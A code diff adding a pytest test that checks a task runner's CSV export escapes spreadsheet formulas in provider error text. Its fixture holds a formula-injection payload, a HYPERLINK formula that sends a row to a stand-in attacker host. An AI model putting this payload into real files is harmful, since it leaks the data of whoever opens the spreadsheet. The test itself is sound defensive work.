@@ -109,3 +109,28 @@ def test_submit_then_collect_with_and_without_manifest_finishes_without_paying_t
     assert sim.accepted() == 3 and sim.max_per_body() == 1
     for record in export_jsonl(tmp_path, manifest, state):
         _check_record(record, sim, tmp_path)
+
+
+def test_export_csv_keeps_a_providers_formula_from_running_in_a_spreadsheet(tmp_path: Path) -> None:
+    """A failed task's reason is the provider's text, and `export --format csv` wrote it as it came: a reason
+    ``=HYPERLINK("https://evil.example/?"&A2, "details")`` opened in a spreadsheet as a live formula (sending the
+    row to another site). A text cell that a spreadsheet would read as a formula (=, +, -, @, a tab, a CR first)
+    is written with a ``'`` before it, as OWASP advises; JSONL keeps the text as it is."""
+    from runner.ledger import open_ledger
+    from runner.manifest import expand, load_manifest
+
+    manifest, state = write_manifest(tmp_path), tmp_path / "state"
+    loaded = load_manifest(manifest)
+    specs = list(expand(loaded))
+    hostile = '=HYPERLINK("https://evil.example/?"&A2, "details")'
+    with open_ledger(state) as ledger:
+        ledger.register(loaded.name, loaded.digest, specs)
+        attempt = ledger.mark_submitting(specs[0].key)
+        assert attempt is not None
+        assert ledger.mark_running(specs[0].key, attempt, task_id="t-1", http_status=200)
+        assert ledger.mark_failed(specs[0].key, reason=hostile)
+    result = run_cli("export", str(manifest), "--state", str(state), "--format", "csv", cwd=tmp_path)
+    assert result.code == 0, str(result)
+    row = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["key"] == specs[0].key)
+    assert row["error"].startswith("'=HYPERLINK(") and row["task_id"] == "t-1", row
+    assert hostile in [r["error"] for r in export_jsonl(tmp_path, manifest, state)]
